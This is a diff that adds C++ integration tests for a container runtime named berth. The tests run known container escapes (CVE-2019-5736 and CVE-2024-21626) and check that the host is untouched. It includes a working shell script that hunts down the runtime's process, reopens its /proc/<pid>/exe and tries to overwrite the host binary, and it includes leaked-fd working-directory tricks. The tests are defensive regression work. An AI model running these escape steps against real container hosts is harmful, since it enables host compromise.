@@ -1,0 +1,127 @@
+// The known runtime escapes, each reproduced against the built berth: the attack runs
+// inside a real container and the test checks the host side is untouched. Needs root.
+#define BOOST_TEST_MODULE integration_escapes
+#include "harness.hpp"
+
+#include <boost/test/unit_test.hpp>
+
+#include <cstdlib>
+#include <string>
+#include <vector>
+
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+using namespace berth::it;
+
+namespace {
+
+bool contains(const std::string& haystack, const std::string& needle) {
+    return haystack.find(needle) != std::string::npos;
+}
+
+// Host fds left open (not CLOEXEC) in the process that runs berth, as a careless
+// caller would; directories among them, the CVE-2024-21626 ingredient.
+struct LeakedFds {
+    std::vector<int> fds;
+    LeakedFds() {
+        for (int i = 0; i < 4; ++i) fds.push_back(::open("/", O_RDONLY | O_DIRECTORY));
+        fds.push_back(::open("/etc/hostname", O_RDONLY));
+        fds.push_back(::open("/etc", O_PATH | O_DIRECTORY));
+        for (int fd : fds) BOOST_TEST_REQUIRE(fd >= 0);
+    }
+    ~LeakedFds() {
+        for (int fd : fds) ::close(fd);
+    }
+};
+
+}  // namespace
+
+// CVE-2019-5736: a container file `#!/proc/self/exe` that the host later runs with
+// `exec` makes the kernel run the runtime's own binary inside the container; pid 1 of
+// the container keeps its /proc/<pid>/exe open and, once it exited, reopens it for
+// writing to overwrite the host binary. The berth under attack is a copy in the bundle,
+// never the build output.
+BOOST_AUTO_TEST_CASE(cve_2019_5736_proc_self_exe_cannot_be_overwritten) {
+    Bundle b;
+    std::string copy = b.dir() + "/berth-copy";
+    BOOST_TEST_REQUIRE(run_command({"/bin/cp", berth_path(), copy}).status == 0);
+    std::string before = read_file(copy);
+    // The image must be able to run berth: its shared libraries and loader.
+    Result libs = run_command({"/bin/sh", "-c",
+        "for l in $(ldd \"$0\" | grep -o '/[^ ]*'); do mkdir -p \"$1$(dirname $l)\" && cp -L $l \"$1$l\" || exit 1; done",
+        copy, b.rootfs()});
+    BOOST_TEST_REQUIRE(libs.status == 0, libs.err);
+    // berth-as-interpreter gets `--root /evil.sh --log=/tmp/f state x`: opening the log
+    // FIFO, which nobody reads, holds it alive while the attacker opens its exe.
+    write_file(b.rootfs() + "/evil.sh", "#!/proc/self/exe --root\n", 0755);
+    BOOST_TEST_REQUIRE(::mkfifo((b.rootfs() + "/tmp/f").c_str(), 0666) == 0);
+    b.config.root->readonly = false;
+    b.config.process->args = {"/bin/sh", "-c",
+        "bb=/bin/busybox; exec >/tmp/log 2>&1; pid=; "
+        "for i in $($bb seq 500); do for p in /proc/[0-9]*; do case $($bb readlink $p/exe) in "
+        "*berth*|*memfd*) pid=${p#/proc/};; esac; done; [ -n \"$pid\" ] && break; $bb usleep 10000; done; "
+        "echo exe=$($bb readlink /proc/$pid/exe); exec 5</proc/$pid/exe || echo open=fail; "
+        "kill -9 $pid; while [ -e /proc/$pid ]; do $bb usleep 10000; done; "
+        "if echo pwned >/proc/self/fd/5; then echo write=ok; else echo write=fail; fi; "
+        "$bb mv /tmp/log /tmp/report; exec $bb sleep 60"};
+    b.save();
+    std::string built = berth_path();
+    ::setenv("BERTH", copy.c_str(), 1);
+    BOOST_TEST_REQUIRE(b.berth({"create", "--bundle", b.dir(), b.id()}).status == 0);
+    BOOST_TEST_REQUIRE(b.berth({"start", b.id()}).status == 0);
+    Result x = b.berth({"exec", b.id(), "/evil.sh", "--log=/tmp/f", "state", "x"});
+    std::string report;
+    for (int i = 0; i < 300 && report.empty(); ++i) {
+        if (path_exists(b.rootfs() + "/tmp/report")) report = read_file(b.rootfs() + "/tmp/report");
+        else ::usleep(20000);
+    }
+    b.berth({"delete", "--force", b.id()});
+    ::setenv("BERTH", built.c_str(), 1);
+    BOOST_TEST_MESSAGE("exec: " << x.status << " " << x.err << "\ncontainer: " << report);
+    BOOST_TEST(contains(report, "exe="));
+    BOOST_TEST(!contains(report, "open=fail"));  // the attack got as far as the reopen
+    BOOST_TEST(contains(report, "write=fail"));
+    BOOST_TEST((read_file(copy) == before));
+}
+
+// CVE-2024-21626 (a): no host fd reaches the container, directories included.
+BOOST_AUTO_TEST_CASE(cve_2024_21626_no_host_fd_reaches_the_container) {
+    LeakedFds leaked;
+    Bundle b;
+    Result r = b.run();
+    BOOST_TEST_REQUIRE(r.status == 0, r.err);
+    BOOST_TEST(parse_report(r.out).get("fds") == "0,1,2");
+    // Each fd's target as the kernel names it.
+    b.config.process->args = {"/bin/busybox", "ls", "-l", "/proc/self/fd/"};
+    r = b.run();
+    BOOST_TEST_REQUIRE(r.status == 0, r.err);
+    int fds = 0;
+    for (std::size_t at = r.out.find(" -> "); at != std::string::npos; at = r.out.find(" -> ", at + 1), ++fds) {
+        std::string target = r.out.substr(at + 4, r.out.find('\n', at) - at - 4);
+        BOOST_TEST((target.rfind("pipe:", 0) == 0 || target.rfind("/dev/", 0) == 0 || target.rfind("/proc/", 0) == 0),
+                   target);
+    }
+    BOOST_TEST(fds == 3);  // 0, 1, 2: ls closed its directory before reading the links
+}
+
+// CVE-2024-21626 (b): a cwd through /proc/self/fd/N would be a host directory if the
+// init still held one at chdir time; the container must never see the host's root.
+BOOST_AUTO_TEST_CASE(cve_2024_21626_cwd_through_leaked_fd_stays_inside) {
+    LeakedFds leaked;
+    write_file("/tmp/.berth-escape-marker", "host\n");
+    for (int n = 3; n <= 12; ++n) {
+        Bundle b;
+        std::string cwd = "/proc/self/fd/" + std::to_string(n);
+        b.config.process->cwd = cwd;
+        b.config.process->args = {"/bin/sh", "-c", "echo cwd=$(pwd -P); ls tmp/.berth-escape-marker >/dev/null 2>&1 && echo host=1; true"};
+        Result r = b.run();
+        BOOST_TEST_MESSAGE(cwd << ": " << r.status << " " << r.out << r.err);
+        Report rep = parse_report(r.out);
+        BOOST_TEST(rep.get("host") == "", cwd);
+        if (r.status == 0) BOOST_TEST(!contains(rep.get("cwd"), "unreachable"), cwd);
+        else BOOST_TEST(contains(r.err, "cwd"), cwd << ": " << r.err);
+    }
+    ::unlink("/tmp/.berth-escape-marker");
+}
